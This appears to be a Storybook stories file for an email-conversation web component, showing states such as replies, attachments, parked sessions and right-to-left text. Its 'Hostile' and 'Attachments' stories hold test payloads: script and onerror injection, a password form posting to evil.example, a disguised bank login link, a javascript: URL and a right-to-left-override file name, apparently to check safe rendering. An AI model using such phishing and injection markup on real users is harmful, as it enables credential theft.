import type { Meta, StoryObj } from '@storybook/web-components-vite';
import { html } from 'lit';
import '../src/components/email-conversation/email-conversation.define.js';
import '../src/components/message-composer/message-composer.define.js';
import type { EmailConversation } from '../src/index.js';
import { MINUTE, aSession, someSegments } from './scenarios/builders.js';
import { written } from './scenarios/composing.js';
import { press } from './scenarios/gestures.js';
import { inPanel, inWorkspace } from './scenarios/in-workspace.js';
import { aFormattedMail, aMail, aMailSession } from './scenarios/mails.js';
import { NOW } from './scenarios/scripted-gateway.js';

type Args = Pick<EmailConversation, 'sessionId'>;

const meta: Meta<Args> = {
  title: 'email-conversation',
  component: 'email-conversation',
  args: { sessionId: 'mail-1' },
  render: ({ sessionId }) => html`<email-conversation .sessionId=${sessionId}></email-conversation>`,
};
export default meta;

type Story = StoryObj<Args>;

const formatted = aMailSession(aFormattedMail());

const reply = (root: HTMLElement): Promise<void> => press(root, 'email-conversation', '[data-act="reply"]');

/** Writes an answer as an agent does. */
async function writeReply(root: HTMLElement, text: string): Promise<void> {
  await reply(root);
  const [surface] = await written(root);
  surface?.focus();
  // eslint-disable-next-line @typescript-eslint/no-deprecated -- nothing else types as a user does
  document.execCommand('insertText', false, text);
}

async function sendReply(root: HTMLElement): Promise<void> {
  await writeReply(root, 'Thank you, we are looking into it.');
  const composer = root.querySelector('email-conversation')?.shadowRoot?.querySelector('message-composer');
  const button = composer?.shadowRoot?.querySelector<HTMLButtonElement>('.send');
  // As with any typing, the editor hears of the text before the button is pressed.
  for (let turn = 0; turn < 60 && button?.disabled; turn += 1) await new Promise(requestAnimationFrame);
  if (!button || button.disabled) throw new Error('The answer cannot be sent.');
  button.click();
}

export const Default: Story = { decorators: [inWorkspace({ sessions: [formatted] })] };

export const PlainText: Story = { decorators: [inWorkspace({ sessions: [aMailSession()] })] };

export const WithoutImages: Story = {
  decorators: [inWorkspace({ sessions: [aMailSession(aMail({ html: '<p>Without any image from elsewhere.</p>' }))] })],
};

export const NoText: Story = { decorators: [inWorkspace({ sessions: [aMailSession({ ...aMail(), text: '' })] })] };

export const NoMail: Story = {
  decorators: [inWorkspace({ sessions: [aSession({ id: 'mail-1', modality: 'email' })] })],
};

export const TooLarge: Story = {
  decorators: [
    inWorkspace({
      sessions: [aMailSession(aMail({ html: '<b>x</b>'.repeat(50_000), text: 'Log file '.repeat(2000) }))],
    }),
  ],
};

export const Attachments: Story = {
  decorators: [
    inPanel,
    inWorkspace({
      sessions: [
        aMailSession(
          aMail({
            attachments: [
              {
                id: '1',
                name: 'reader-1.jpg',
                size: 1_842_000,
                mediaType: 'image/jpeg',
                url: 'https://mail.example/1',
              },
              { id: '2', name: 'a-name-without-any-place-to-break-it-that-goes-on-and-on.pdf', size: 90_400 },
              { id: '3', name: 'invoice\u202Efdp.exe', size: 812, url: 'javascript:alert(1)' },
            ],
          }),
        ),
      ],
    }),
  ],
};

export const SuspiciousSender: Story = {
  decorators: [
    inWorkspace({
      sessions: [
        aMailSession(aMail({ from: { name: 'service@lakeside-bank.example', address: 'x17@mailer.example' } })),
      ],
    }),
  ],
};

export const ReplyOpen: Story = {
  decorators: [inWorkspace({ sessions: [formatted] })],
  play: async ({ canvasElement }) => writeReply(canvasElement, 'Dear Mrs Feld'),
};

export const ReplyPending: Story = {
  decorators: [inWorkspace({ sessions: [aMailSession()], reply: 'never' })],
  play: async ({ canvasElement }) => sendReply(canvasElement),
};

export const ReplyFailed: Story = {
  decorators: [
    inWorkspace({
      sessions: [aMailSession()],
      reply: { ok: false, failure: 'failed', message: 'The mail server refused it.' },
    }),
  ],
  play: async ({ canvasElement }) => sendReply(canvasElement),
};

const [, ...answers] = someSegments('', 'Dear Mrs Feld, we have **sent a technician**. He will be there at two.');

export const Answered: Story = {
  decorators: [
    inWorkspace({
      sessions: [aMailSession()],
      transcript: {
        sessionId: 'mail-1',
        segments: answers.flatMap((answer) => [
          { ...answer, at: NOW - 9 * MINUTE, format: 'markdown', delivery: 'read' },
          {
            ...answer,
            id: 'second',
            text: 'He is late.',
            at: NOW,
            delivery: 'failed',
            deliveryFailure: 'Mailbox full.',
          },
        ]),
      },
    }),
  ],
};

export const AboutToBeLost: Story = {
  decorators: [inWorkspace({ sessions: [aMailSession()] })],
  play: async ({ canvasElement }) => {
    await writeReply(canvasElement, 'Dear Mrs Feld');
    await press(canvasElement, 'email-conversation', '[data-act="handled"]');
  },
};

export const Parked: Story = {
  decorators: [inWorkspace({ sessions: [aMailSession(aFormattedMail(), { state: 'parked', parkedSince: NOW })] })],
};

export const Ended: Story = {
  decorators: [
    inWorkspace({
      sessions: [
        aMailSession(aFormattedMail(), { state: 'ended', result: 'marked-as-handled-by-user', times: { ended: NOW } }),
      ],
    }),
  ],
};

export const Hostile: Story = {
  decorators: [
    inPanel,
    inWorkspace({
      sessions: [
        aMailSession(
          aMail({
            subject: `Urgent${'!'.repeat(400)}`,
            html:
              '<script>top.hostile = 1</script><img src=x onerror="top.hostile = 1"><form action="https://evil.example">' +
              '<input name="password"></form><p style="position: fixed; inset: 0">Your session has expired.</p>' +
              '<a href="https://evil.example/login">https://lakeside-bank.example/login</a><a href="javascript:alert(1)">here</a>',
          }),
        ),
      ],
    }),
  ],
};

export const RightToLeft: Story = {
  decorators: [
    inWorkspace({
      sessions: [
        aMailSession(
          aMail({
            from: { name: 'ליאור כהן', address: 'lior@mail.example' },
            subject: 'הכרטיס לא הגיע',
            html: '<p>שלום רב,</p><p>הכרטיס החדש עוד לא הגיע.</p><p>תודה, ליאור</p>',
          }),
        ),
      ],
    }),
  ],
};

export const NotConnected: Story = {};
